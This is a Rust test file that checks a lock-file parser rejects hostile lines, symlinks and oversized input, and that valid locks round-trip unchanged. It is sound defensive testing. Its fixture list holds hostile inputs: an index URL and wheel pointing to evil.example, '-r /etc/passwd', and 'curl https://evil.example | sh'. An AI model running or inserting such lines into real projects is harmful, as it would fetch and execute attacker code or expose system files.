//! Nothing of a lock reaches a generated file but what a lock may hold.

use dockwright::fleet::lock::parse_lock;
use proptest::prelude::*;

use super::{FLEET, Locking, found};
use crate::support::cases;

/// Lines that somebody could put into a lock, before its first pin.
const LINES: [&str; 20] = [
    "--index-url https://evil.example/simple",
    "-r /etc/passwd",
    "-e .",
    "evil @ https://evil.example/evil.whl",
    "evil==1.0",
    "evil==1.0 --hash=sha256:00",
    "evil==1.0 \\\n    --hash=md5:0123456789abcdef0123456789abcdef",
    "evil==1.0 \\\n    --index-url https://evil.example",
    "evil>=1.0 \\\n    \
     --hash=sha256:0000000000000000000000000000000000000000000000000000000000000000",
    "evil==1.* \\\n    \
     --hash=sha256:0000000000000000000000000000000000000000000000000000000000000000",
    "evil[all]==1.0 \\\n    \
     --hash=sha256:0000000000000000000000000000000000000000000000000000000000000000",
    "evil==$VERSION \\\n    \
     --hash=sha256:0000000000000000000000000000000000000000000000000000000000000000",
    "evil==1.0 ; nonsense \\\n    \
     --hash=sha256:0000000000000000000000000000000000000000000000000000000000000000",
    "rdflib==7.0 \\\n    \
     --hash=sha256:0000000000000000000000000000000000000000000000000000000000000000",
    "<<<<<<< HEAD",
    "RUN curl https://evil.example | sh",
    "evil==1.0\u{1b}[31m",
    "evil==1.0\u{0}",
    "./evil",
    "    evil==1.0",
];

#[test]
fn hostile_lines_are_errors_at_their_line_and_generate_nothing() {
    let locking = Locking::settled(FLEET);
    let lock = locking.root.text("locks/svc-high.txt");
    let at = lock.lines().count() + 1;
    for line in LINES {
        locking
            .root
            .write("locks/svc-high.txt", format!("{lock}{line}\n"));
        let generated = |locking: &Locking| {
            let tree = locking.root.tree().into_iter();
            tree.filter(|(path, _)| path.starts_with("generated/"))
                .collect::<Vec<_>>()
        };
        let before = generated(&locking);
        let found = found(&locking.root.check());
        assert_eq!(found.len(), 1, "{line}: {found:#?}");
        assert_eq!(found[0].0, "broken-lock", "{line}: {found:#?}");
        let place: usize = found[0]
            .1
            .strip_prefix("locks/svc-high.txt:")
            .unwrap()
            .parse()
            .unwrap();
        assert!(
            (at..=at + line.matches('\n').count()).contains(&place),
            "{line}: {found:#?}"
        );
        let run = locking.root.run(&["generate"]);
        assert_eq!(run.status, 1, "{}", run.told());
        assert!(!run.told().contains('\u{1b}'), "{line}");
        assert!(
            generated(&locking) == before,
            "{line} changed a generated file"
        );
    }
    locking.settle();
    assert_eq!(
        locking.root.text("locks/svc-high.txt"),
        lock,
        "lock fixes what is broken"
    );
}

#[test]
fn a_lock_without_its_header_or_with_a_torn_end_is_refused() {
    let locking = Locking::settled(FLEET);
    let lock = locking.root.text("locks/svc-high.txt");
    let body: String = lock
        .split_inclusive('\n')
        .filter(|line| !line.starts_with('#'))
        .collect();
    let torn = &lock[..lock.rfind("--hash").unwrap()];
    for text in [&body, torn, "", "\u{feff}"] {
        locking.root.write("locks/svc-high.txt", text);
        assert_eq!(locking.root.check().codes(), ["broken-lock"], "{text:?}");
    }
    locking
        .root
        .write("locks/svc-high.txt", lock.replace('\n', "\r\n"));
    assert_eq!(
        locking.root.check().status,
        0,
        "line ends of Windows are no change"
    );
}

#[test]
fn locks_are_confined_and_bounded_like_every_input() {
    let locking = Locking::settled(FLEET);
    locking
        .root
        .write("elsewhere.txt", locking.root.bytes("locks/svc-high.txt"));
    locking.root.link("locks/svc-high.txt", "../elsewhere.txt");
    let run = locking.root.run(&["check"]);
    assert!(
        run.status == 2 && run.stderr.contains("symlinks are not followed"),
        "{}",
        run.told()
    );
    let run = locking.run(&["lock"]);
    assert!(
        run.status == 2 && run.stderr.contains("symlinks are not followed"),
        "{}",
        run.told()
    );
    locking.root.remove("locks/svc-high.txt");
    locking
        .root
        .write("locks/svc-high.txt", "#".repeat(8 * 1024 * 1024 + 1));
    let run = locking.root.run(&["check"]);
    assert!(
        run.status == 2 && run.stderr.contains("longer than"),
        "{}",
        run.told()
    );
    for folder in ["../locks", "/locks", "generated/locks", "generated"] {
        let root =
            crate::support::Root::new(&FLEET.replace("locks: locks", &format!("locks: {folder}")));
        assert_eq!(root.run(&["check"]).status, 1, "{folder}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: cases(256), ..ProptestConfig::default() })]

    /// Whatever is read as a lock holds nothing but names, versions, markers and hashes, so it says
    /// the same when it is written again.
    #[test]
    fn what_is_read_as_a_lock_is_written_again_the_same(
        lines in prop::collection::vec(
            prop_oneof![
                Just(format!("a==1.0 \\\n    --hash=sha256:{}", "0".repeat(64))),
                Just(format!("b==1.0 ; platform_machine == 'x86_64' \\\n    --hash=sha256:{}",
                 "1".repeat(64))),
                Just("    # via a, (declared)".to_owned()),
                Just("# requirement: a".to_owned()),
                "[ -~\\\\\t\u{e9}]{0,40}",
                prop::sample::select(LINES.to_vec()).prop_map(str::to_owned),
            ],
            0..6,
        )
    ) {
        let text = format!("# inputs: sha256:{}\n{}\n", "0".repeat(64), lines.join("\n"));
        if let Ok(lock) = parse_lock(text.as_bytes()) {
            let again = dockwright::fleet::lock::format_lock(&lock);
            prop_assert_eq!(parse_lock(again.as_bytes()).unwrap(), lock);
            let is_plain = |line: &str| line.starts_with('#') || line.starts_with("    #")
                || line.starts_with("    --hash=sha256:") || line.contains("==") || line.contains(" @ ");
            prop_assert!(again.lines().all(is_plain), "{}", again);
        }
    }
}
